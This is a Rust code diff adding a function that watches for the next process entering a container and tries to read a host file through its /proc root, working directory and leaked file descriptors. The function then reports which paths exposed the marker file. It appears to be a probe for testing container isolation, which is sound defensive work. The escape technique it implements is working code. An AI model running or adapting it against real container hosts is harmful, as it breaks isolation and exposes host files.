@@ -321,3 +321,37 @@ fn look(pid: &str, opened: &mut Vec<String>) {
         }
     }
 }
+
+/// Until standard input ends, look for a file of the host's through whoever comes into the container next: through its root, its working
+/// directory, and every descriptor that it may have on its way.
+pub fn peek(rest: &[String]) {
+    let secret = rest.first().map(String::as_str).unwrap_or_default();
+    println!("ready");
+    let end = std::thread::spawn(|| std::io::copy(&mut std::io::stdin().lock(), &mut std::io::sink()));
+    let up = "/..".repeat(12);
+    let (mut next, mut seen, mut found) = (std::process::id() + 1, 0u64, Vec::new());
+    while !end.is_finished() {
+        let ways = ["root".to_owned(), format!("cwd{up}")].into_iter();
+        let numbers = (3..14).chain(254..264).map(|fd| format!("fd/{fd}{up}"));
+        let mut there = false;
+        for way in ways.chain(numbers) {
+            // Its thread has a number as well.
+            for pid in [next, next + 1] {
+                let path = format!("/proc/{pid}/{way}{secret}");
+                if fs::read_to_string(&path).is_ok_and(|text| text.starts_with("secret")) {
+                    found.push(path);
+                }
+            }
+            there |= fs::metadata(format!("/proc/{next}")).is_ok();
+        }
+        // The next one comes after who was there.
+        if there {
+            seen += 1;
+            next += u32::from(fs::metadata(format!("/proc/{next}")).is_err());
+        } else if fs::metadata(format!("/proc/{}", next + 1)).is_ok() {
+            next += 1;
+        }
+    }
+    let found = crate::json::list(found.iter().map(crate::json::string));
+    println!("{}", object([("seen".to_owned(), seen.to_string()), ("found".to_owned(), found)]));
+}
